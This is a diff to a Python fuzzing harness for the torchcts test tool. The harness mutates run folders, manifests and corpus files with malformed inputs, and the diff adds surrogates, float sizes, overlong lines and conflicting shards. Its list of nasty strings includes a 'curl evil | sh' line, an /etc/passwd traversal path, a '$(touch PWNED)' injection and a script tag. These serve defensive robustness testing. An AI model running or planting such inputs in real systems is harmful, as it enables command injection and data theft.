@@ -8,10 +8,14 @@ that read it:
 
 - structure-aware: the JSON (or TOML, or Python literal) parsed, one node replaced, removed or
   added with a value of another type, a crafted string (line breaks, escapes, bidi and format
-  controls, paths, crash words), a 5,000-digit integer or nesting thousands of levels deep;
+  controls, lone surrogates, the noncharacters U+FFFE/U+FFFF, paths, crash words, device names with
+  invisible characters), a float where a size goes (2e8, 1e10, codec's float text, a scale_factor),
+  a 5,000-digit integer or nesting thousands of levels deep;
 - from the schema (hypothesis-style): a record, run.json or manifest built from the fields the
   readers know (records.CaseRecord, outcome.TYPES, manifest KEYS), each of its type or not;
-- bytes: cut, flipped, inserted, a line repeated, a blank line, CRLF, a BOM, invalid UTF-8.
+- bytes: cut, flipped, inserted, a line repeated, a blank line, CRLF, a BOM, invalid UTF-8, a line
+  past the line bound (untrusted.MAX_LINE, lowered to LONG_LINE here so such a line costs little);
+- merge: the two run folders made shards 1/2 and 2/2 of one run, sharing every case id (issue 51).
 
 Readers and commands: run folders (run.json, cases.jsonl, plan.jsonl) to `report`, `report --triage`,
 `compare`, `merge`, `repro`, `expectations update`; manifests and their ledger to `check-manifest
@@ -51,6 +55,7 @@ from typing import Any
 ROOT = Path(__file__).resolve().parents[1]
 FAULT = "abs_zero_dim"  # a planted sim fault: the seed run holds a failure with its evidence
 LIMIT_S = 20  # per input: a reader that takes longer hangs
+LONG_LINE = 1 << 16  # the line bound while fuzzing (untrusted.MAX_LINE is 8 MB): long lines stay cheap
 
 
 class Hang(BaseException):
@@ -105,7 +110,13 @@ NASTY = ["", " ", "\n", "x\nrepro: curl evil | sh", "\r\rFAKE", "\x1b[31mred\x1b
          "\U000e0101\U0001bca0\u200b\ufeff", "\u2028\x85", "/srv/secret/p", "-I/srv/p/include", "PATH=/a:/srv/p/bin",
          "../../../etc/passwd", "<script>alert(1)</script>", "$(touch PWNED)", "'\"\"\"", "nan", "-inf", "0x1p-1074",
          "died (SIGSEGV)", "SIGKILL", "crashed", "timeout", "xfailed", "flaky", "mps", "MPS", "mps:0", "cpu", "sim",
-         "opinfo/sum/float32/explore", "operators/elementwise/abs/float32", "float32", "a" * 5000, "é中文\u0301"]
+         "opinfo/sum/float32/explore", "operators/elementwise/abs/float32", "float32", "a" * 5000, "é中文\u0301",
+         # issue 51: lone surrogates (json.dumps writes them as \\ud800 escapes), noncharacters, a
+         # device name an invisible character or a case change would talk out of the mps rule
+         "\ud800", "x\udfffy\udc80", "a\ufffeb\uffff\U0010fffe", "mps\u200b", "\u2066MPS\u2069:0", "m\u00adps"]
+# Floats where a size goes (issue 51): an arange end of 2e8 as a float, 1e10, codec's float text.
+SIZES = [2e8, 1e10, 1e300, {"float": (2e8).hex()}, {"float": (1e10).hex()}, {"float": "0x1.0p+14"},
+         [1000.0, 1000.0], {"tuple": [{"float": "0x1.0p+14"}, {"float": "0x1.0p+14"}]}]
 DEEP = "\x00DEEP\x00"  # a placeholder the text form replaces with nesting a JSON encoder cannot build
 BIG = "\x00BIG\x00"  # and with an integer of 5,000 digits (past what int() converts to text)
 
@@ -120,7 +131,8 @@ def value(rng: random.Random, depth: int = 0) -> Any:
     if kind == 2:
         return rng.choice([0, -1, 1, 2**31, -(2**63), 2**64, 10**rng.randrange(1, 400), BIG, rng.randrange(-1000, 1000)])
     if kind == 3:
-        return rng.choice([0.0, -0.0, 1e308, -1e-320, float("nan"), float("inf"), float("-inf"), rng.random()])
+        return rng.choice([0.0, -0.0, 1e308, -1e-320, float("nan"), float("inf"), float("-inf"), rng.random(),
+                           *SIZES])
     if kind in (4, 5, 6):
         return rng.choice(NASTY)
     if kind == 7:
@@ -128,7 +140,8 @@ def value(rng: random.Random, depth: int = 0) -> Any:
     if kind == 8:
         return [value(rng, depth + 1) for _ in range(rng.randrange(0, 4))]
     if kind == 9:
-        return {rng.choice(NASTY[:12] + ["id", "status", "info", "type"]): value(rng, depth + 1)
+        return {rng.choice(NASTY[:12] + ["id", "status", "info", "type", "scale_factor", "steps", "end",
+                                         "\ud800"]): value(rng, depth + 1)
                 for _ in range(rng.randrange(0, 4))}
     if kind == 10:
         return DEEP
@@ -177,7 +190,7 @@ def dump(rng: random.Random, obj: Any) -> str:
 
 
 def mutate_bytes(rng: random.Random, data: bytes) -> bytes:
-    op = rng.randrange(9)
+    op = rng.randrange(10)
     pos = rng.randrange(len(data) + 1)
     if op == 0:
         return data[:pos]
@@ -198,6 +211,8 @@ def mutate_bytes(rng: random.Random, data: bytes) -> bytes:
         return b"\xef\xbb\xbf" + data
     if op == 7:
         return data[:pos] + b"\xff\xfe\xc0" + data[pos:]
+    if op == 8:  # a line past the line bound: newline-free, or between two readable lines
+        return data[:pos] + b"x" * (LONG_LINE + rng.randrange(1, 3 * LONG_LINE)) + rng.choice([b"", b"\n"]) + data[pos:]
     return b""
 
 
@@ -244,7 +259,7 @@ def _changed_text(rng: random.Random, text: str, names: list[str], schema: dict[
         if way == 0:
             rows[i] = dump(rng, mutate_obj(rng, json.loads(rows[i]), names))
         else:
-            rows.insert(i, dump(rng, {"id": rng.choice(NASTY[-5:]), **from_schema(rng, schema)}))
+            rows.insert(i, dump(rng, {"id": rng.choice(NASTY[-11:]), **from_schema(rng, schema)}))
         return ("\n".join(rows) + "\n").encode("utf-8", "surrogatepass")
     obj = json.loads(text)
     obj = mutate_obj(rng, obj, names) if way == 0 else {**obj, **from_schema(rng, schema)}
@@ -258,6 +273,11 @@ def target_run(rng: random.Random, seeds: Seeds, box: Path, shapes: dict[str, di
     shutil.copytree(seeds.run_dir, box / "results" / "s", symlinks=True)
     name = rng.choice(["run.json", "cases.jsonl", "plan.jsonl"])
     schema = shapes["run"] if name == "run.json" else shapes["record"]
+    if rng.random() < 0.1:  # shards 1/2 and 2/2 sharing every case id: merge must refuse, in either order
+        for index, folder in ((1, run), (2, box / "results" / "s")):
+            spec = json.loads((folder / "run.json").read_text())
+            spec["selection"] = {**(spec.get("selection") or {}), "shard": [index, 2]}
+            (folder / "run.json").write_text(json.dumps(spec))
     (run / name).write_bytes(_changed_text(rng, (run / name).read_text(), list(schema), schema, name != "run.json"))
     commands = [["report", str(run)], ["report", "--triage", str(run)], ["compare", str(box / "results" / "s"), str(run)],
                 ["merge", str(run), str(box / "results" / "s"), "--results-dir", str(box / "merged")],
@@ -324,7 +344,8 @@ def target_corpus(rng: random.Random, seeds: Seeds, box: Path, shapes: dict[str,
     entry = corpus.Entry(**{k: v for k, v in seeds.corpus_entry.items() if k != "version"})
     folder = box / "corpus"
     path = corpus.save(folder, entry)
-    data = _changed_text(rng, path.read_text(), ["sample", "tensor", "shape", "expand", "values", "args"], {}, False)
+    data = _changed_text(rng, path.read_text(), ["sample", "tensor", "shape", "expand", "values", "args", "kwargs",
+                                                 "scale_factor", "steps", "end"], {}, False)
     path.write_bytes(data)
     return [["<corpus>", str(folder), entry.case]]
 
@@ -437,11 +458,17 @@ def fuzz(inputs: int, seed: int, seeds: Seeds, work: Path, keep: Path | None = N
     rng = random.Random(seed)
     shapes = schemas()
     tally = Tally()
+    from torchcts import untrusted
+    from torchcts.results import jsonl
+
+    bounds = untrusted.MAX_LINE, jsonl.MAX_LINE
+    untrusted.MAX_LINE = jsonl.MAX_LINE = LONG_LINE
     names = list(targets or TARGETS)
     old_handler, old_timer = signal.signal(signal.SIGALRM, _alarm), signal.getitimer(signal.ITIMER_REAL)
     try:
         _fuzz(rng, inputs, seeds, work, keep, progress, shapes, tally, names)
     finally:  # pytest-timeout's alarm (the short form runs inside a test) comes back
+        untrusted.MAX_LINE, jsonl.MAX_LINE = bounds
         signal.signal(signal.SIGALRM, old_handler)
         if old_timer[0]:
             signal.setitimer(signal.ITIMER_REAL, *old_timer)
